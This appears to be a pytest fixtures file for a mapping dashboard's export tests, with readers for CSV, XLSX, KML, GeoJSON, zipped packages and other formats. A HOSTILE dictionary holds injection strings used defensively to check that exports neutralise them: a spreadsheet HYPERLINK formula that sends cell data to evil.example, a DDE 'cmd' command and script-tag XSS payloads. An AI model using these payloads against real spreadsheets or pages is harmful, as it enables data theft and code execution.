"""Views to be taken away, and for every format a reader of its own that gives back what a record is."""

import base64
import csv
import gzip
import json
import re
import struct
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from datetime import date
from itertools import pairwise
from pathlib import Path
from typing import Any

import geopandas as gpd
import numpy as np
import openpyxl
import pandas as pd
import pyogrio
import pytest
from defusedxml import ElementTree

from dashboard.domain.dates import UncertainDate
from dashboard.domain.records import (
    Actor,
    ActorRole,
    Citation,
    Event,
    Location,
    Product,
    Site,
    SiteStatus,
    Source,
)
from dashboard.exports.cells import unguard_cell
from dashboard.exports.view import ExportView
from dashboard.importers.package import DataPackage, read_package
from dashboard.workflows.sharing.link import Link
from dashboard.workflows.sharing.take_away import view_of
from dashboard.workflows.views.evidence import build_library
from dashboard.workflows.views.frames import build_frames
from dashboard.workflows.views.selection import Filters, select

STARTER = Path(__file__).parents[2] / "data"
KML = "{http://www.opengis.net/kml/2.2}"
HOSTILE = {
    "formula": '=HYPERLINK("https://evil.example/?"&A1)',
    "command": "@SUM(1+1)*cmd|'/C calc'!A0",
    "markup": "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "rich": "<r><t>bold</t></r>",
    "cdata": "a ]]> b <![CDATA[ c ]]> & d &amp; e",
    "rtl": "\u202eمصنع\u202c الدار\u200f البيضاء",
    "quotes": "O'Brien said \"no\", 'yes'; a|b",
    "spaces": "two  spaces",
    "escape": "_x0041_ is no A",
    "number": "007",
    "stars": "\U0001f680 \U00020000",
}
"""Names that some format would compute, run, cut, reorder or take for something else."""


def view_of_tables(tables: Any, link: Link | None = None, **options: Any) -> ExportView:
    """Put a view together as a page does."""
    package = DataPackage.of(tables, options.pop("descriptor", ""))
    frames = build_frames(package.tables, package.version)
    library = build_library(package.tables, package.version, package.descriptor)
    asked = link or Link()
    selection = select(frames, asked.filters, asked.window)
    options = {"made_on": date(2026, 11, 26), "address": "https://atlas.example/atlas?from=2020"} | options
    return view_of(frames, library, selection, asked, **options)


@pytest.fixture(scope="session")
def starter_view() -> ExportView:
    """What ships with the atlas of two countries, so that reading it in eleven formats stays quick."""
    package = read_package(STARTER)
    link = Link(filters=Filters(countries=("IL", "MA")))
    return view_of_tables(package.tables, link, descriptor=package.descriptor, title="Starter")


@pytest.fixture(scope="session")
def hostile_tables() -> dict[str, list[Any]]:
    """Records with hostile names, one of them without a place, one with two, one contested."""
    tables: dict[str, list[Any]] = {
        name: [] for name in ("events", "sites", "locations", "citations", "sources")
    }
    for number, (name, text) in enumerate(HOSTILE.items()):
        record_id = f"ev-{name}"
        tables["events"].append(
            Event(
                id=record_id,
                kind="visit",
                title=text,
                summary=f"{text}\n\tsecond line",
                date=UncertainDate.parse(f"20{10 + number}-03~"),
                status="happened",
                actors=(ActorRole("ac-one", "visitor"), ActorRole("ac-two", "host")),
                products=(Product("uav", "Heron"),),
            )
        )
        tables["sources"].append(
            Source(
                id=f"so-{name}",
                publisher=text,
                title=text,
                url="https://a.example/?q=1&r=2",
                kind="newspaper",
            )
        )
        tables["citations"].append(
            Citation(
                id=f"ci-{name}", record_id=record_id, source_id=f"so-{name}", quote=text, stance="supports"
            )
        )
        if name != "number":
            tables["locations"].append(_place(f"lo-{name}", record_id, text, number))
    tables["locations"].append(_place("lo-stars-2", "ev-stars", "Rabat", 3, role="about"))
    tables["citations"].append(
        Citation(
            id="ci-denied",
            record_id="ev-rtl",
            field="date",
            value_as_stated="=2019",
            source_id="so-number",
            stance="contradicts",
        )
    )
    tables["sites"].append(Site(id="st-plant", name="=plant", names=("+plant", "מפעל"), kind="factory"))
    tables["citations"].append(
        Citation(id="ci-plant", record_id="st-plant", source_id="so-rtl", stance="supports")
    )
    tables["site_status"] = [
        SiteStatus(
            id="ss-plant",
            site_id="st-plant",
            status="operating",
            date=UncertainDate.parse("2019/.."),
            citation_id="ci-plant",
        )
    ]
    tables["citations"] += [
        Citation(id=f"ci-{one}", record_id=one, source_id="so-rtl", stance="supports")
        for one in ("ac-one", "ac-two")
    ]
    tables["actors"] = [
        Actor(id="ac-one", name="-1+1|two", kind="state", country="MA"),
        Actor(id="ac-two", name="מדינה", kind="company", country="IL"),
    ]
    return tables


def _place(location_id: str, record_id: str, text: str, number: int, role: str = "at") -> Location:
    return Location(
        id=location_id,
        record_id=record_id,
        role=role,
        place_as_written=text,
        country="MA",
        lat=33.616_471_23 + number / 10,
        lon=-7.123_456_7 - number / 10,
        precision="locality",
        precision_m=10_000,
        method="source",
    )


@pytest.fixture(scope="session")
def hostile_view(hostile_tables: dict[str, list[Any]]) -> ExportView:
    """A view whose every text is hostile, its title as well."""
    return view_of_tables(hostile_tables, title=HOSTILE["cdata"])


@pytest.fixture(scope="session")
def empty_view() -> ExportView:
    """A view of nothing."""
    return view_of_tables({}, title="Nothing")


@dataclass(frozen=True)
class Found:
    """What a reader found of a record."""

    date: str
    sources: frozenset[str]
    precisions: frozenset[str] = field(default_factory=frozenset)
    name: str = ""


def _split(text: Any) -> frozenset[str]:
    return frozenset(part for part in (text or "").split("|") if part)


def _text(value: Any) -> str:
    return "" if value is None or pd.isna(value) else str(value)


def _found(rows: list[dict[str, Any]]) -> dict[str, Found]:
    """Fold features to records: the order is that of their first feature."""
    found: dict[str, Found] = {}
    for row in rows:
        before = found.get(row["id"])
        precisions = (before.precisions if before else frozenset()) | {row["precision"]}
        found[row["id"]] = Found(
            _text(row["date"]), _split(_text(row["source_ids"])), precisions, _text(row["name"])
        )
    return found


def _csv(path: Path) -> list[dict[str, Any]]:
    with path.open(encoding="utf-8", newline="") as file:
        return [{name: unguard_cell(cell) for name, cell in row.items()} for row in csv.DictReader(file)]


def read_csv(path: Path) -> dict[str, Found]:
    return _found(_csv(path))


def unescaped(text: Any) -> Any:
    """Read a cell's text as Excel does; openpyxl leaves the escapes."""
    if not isinstance(text, str):
        return text
    return re.sub("_x([0-9A-Fa-f]{4})_", lambda found: chr(int(found[1], 16)), text)


def sheet_rows(path: Path, sheet: str = "Records") -> list[dict[str, Any]]:
    book = openpyxl.load_workbook(path, read_only=True)
    header, *rows = book[sheet].iter_rows()
    assert all(cell.data_type in "snb" for row in rows for cell in row)  # no formula, no error
    names = [cell.value for cell in header]
    return [dict(zip(names, (unescaped(cell.value) for cell in row), strict=True)) for row in rows]


def read_xlsx(path: Path) -> dict[str, Found]:
    return _found(sheet_rows(path))


def read_geojson(path: Path) -> dict[str, Found]:
    features = json.loads(path.read_text(encoding="utf-8"))["features"]
    assert len(pyogrio.read_dataframe(path)) == len(features)
    return _found([one["properties"] for one in features])


def _frame_rows(frame: pd.DataFrame) -> list[dict[str, Any]]:
    return [{str(name): value for name, value in row.items()} for row in frame.to_dict("records")]


def read_gpkg(path: Path) -> dict[str, Found]:
    places = pyogrio.read_dataframe(path, layer="places")
    assert places.crs is not None
    assert places.crs.to_epsg() == 4326
    records = _found(_frame_rows(pyogrio.read_dataframe(path, layer="records")))
    featured = _found(_frame_rows(places))
    assert [*records] == [*featured]
    assert all(records[one].sources == featured[one].sources for one in records)
    return featured


def read_parquet(path: Path) -> dict[str, Found]:
    return _found(_frame_rows(gpd.read_parquet(path)))


def kml_rows(path: Path) -> list[dict[str, Any]]:
    root = ElementTree.parse(path).getroot()
    rows = []
    for one in root.iter(f"{KML}Placemark"):
        data = {item.get("name"): item.findtext(f"{KML}value") for item in one.iter(f"{KML}Data")}
        span = {end: one.findtext(f"{KML}TimeSpan/{KML}{end}") for end in ("begin", "end")}
        point = one.findtext(f"{KML}Point/{KML}coordinates")
        rows.append({"date": "", **data, "name": one.findtext(f"{KML}name"), "span": span, "point": point})
    return rows


def read_kml(path: Path) -> dict[str, Found]:
    rows = kml_rows(path)
    if rows:
        assert len(pyogrio.read_dataframe(path)) == len(rows)
    return _found(rows)


def read_fgb(path: Path) -> dict[str, Found]:
    return _found(_frame_rows(pyogrio.read_dataframe(path)))


def unpacked(path: Path) -> DataPackage:
    """Open a zipped package as the atlas does, which checks it."""
    folder = path.with_name(f"{path.name}.unpacked")
    with zipfile.ZipFile(path) as archive:
        assert archive.testzip() is None
        archive.extractall(folder)
    return read_package(folder)


def read_zip(path: Path) -> dict[str, Found]:
    package = unpacked(path)
    beyond = package.metadata["view"]["not_shown_but_referred_to"]
    sources: dict[str, set[str]] = {}
    for one in package.tables["citations"]:
        if one.stance == "supports":
            sources.setdefault(one.record_id, set()).add(one.source_id)
    precisions: dict[str, set[str]] = {}
    for one in package.tables["locations"]:
        precisions.setdefault(one.record_id, set()).add(one.precision)
    dates = {one.id: one.date.text for one in package.tables["events"]}
    for one in package.tables["site_status"]:
        if one.date.text:
            dates[one.site_id] = "; ".join(filter(None, (dates.get(one.site_id), one.date.text)))
    names = {one.id: one.title for one in package.tables["events"]}
    names |= {one.id: one.name for one in package.tables["sites"]}
    return {
        one: Found(
            dates.get(one, ""), frozenset(sources[one]), frozenset(precisions.get(one, {"none"})), names[one]
        )
        for one in names
        if one not in beyond
    }


def payload_of(path: Path) -> tuple[dict[str, Any], bytes]:
    """Unpack what a map as one file carries."""
    packed = re.search(r'id="atlas-payload">([^<]*)<', path.read_text(encoding="utf-8"))
    assert packed is not None
    payload = gzip.decompress(base64.b64decode(packed[1]))
    (length,) = struct.unpack("<I", payload[4:8])
    return json.loads(payload[8 : 8 + length]), payload[8 + length :]


def ids_on_map(path: Path) -> list[str]:
    header, body = payload_of(path)

    def column(name: str, kind: str) -> Any:
        entry = header["columns"][name]
        return np.frombuffer(body, kind, entry["length"], entry["offset"])

    texts, ends = column("ids", "u1").tobytes(), column("ids_at", "<u4")
    return [texts[a:b].decode() for a, b in pairwise(ends)]


def read_plover(path: Path) -> dict[str, Found]:
    events = json.loads(path.read_text(encoding="utf-8"))["events"]
    return {
        one["event_id"]: Found(
            one["date"]["edtf"],
            frozenset(source["id"] for source in one["sources"]),
            frozenset(place["precision"] for place in one["locations"]) or frozenset({"none"}),
            one["headline"],
        )
        for one in events
    }


def read_ucdp(path: Path) -> dict[str, Found]:
    return {
        row["id"]: Found(
            row["atlas_date"], _split(row["atlas_source_ids"]), frozenset({row["atlas_precision"]})
        )
        for row in _csv(path)
    }


def read_linked_places(path: Path) -> dict[str, Found]:
    features = json.loads(path.read_text(encoding="utf-8"))["features"]
    if features:
        assert len(pyogrio.read_dataframe(path)) == len(features)
    return {
        one["properties"]["id"]: Found(
            one["properties"]["date"],
            _split(one["properties"]["source_ids"]),
            frozenset(p["precision"] for p in one["geometry"]["geometries"]) or frozenset({"none"}),
            one["properties"]["title"],
        )
        for one in features
    }


@pytest.fixture(scope="session")
def readers() -> dict[str, Callable[[Path], dict[str, Found]]]:
    """A reader of each format that holds records: what it says of each, in the file's order."""
    return {
        "csv": read_csv,
        "xlsx": read_xlsx,
        "geojson": read_geojson,
        "gpkg": read_gpkg,
        "parquet": read_parquet,
        "kml": read_kml,
        "fgb": read_fgb,
        "package": read_zip,
        "plover": read_plover,
        "ucdp": read_ucdp,
        "linked-places": read_linked_places,
    }


@pytest.fixture(scope="session")
def hostile_names() -> dict[str, str]:
    """Texts that some format would compute, run, cut or take for something else, by what they try."""
    return HOSTILE


@pytest.fixture(scope="session")
def make_view() -> Callable[..., ExportView]:
    """Puts a view together of tables."""
    return view_of_tables


@pytest.fixture(scope="session")
def open_kml() -> Callable[[Path], list[dict[str, Any]]]:
    """Gives the placemarks of a KML file."""
    return kml_rows


@pytest.fixture(scope="session")
def open_sheet() -> Callable[..., list[dict[str, Any]]]:
    """Gives the rows of a sheet."""
    return sheet_rows


@pytest.fixture(scope="session")
def open_package() -> Callable[[Path], DataPackage]:
    """Opens a zipped package."""
    return unpacked


@pytest.fixture(scope="session")
def open_map() -> Callable[[Path], list[str]]:
    """Gives the ids of the records that a map as one file carries."""
    return ids_on_map


@pytest.fixture
def no_leftovers(tmp_path: Path) -> Iterator[Path]:
    """A folder in which nothing may be left but what a test expects."""
    folder = tmp_path / "out"
    folder.mkdir()
    yield folder
    assert not [one.name for one in folder.iterdir() if one.name.startswith(".")]
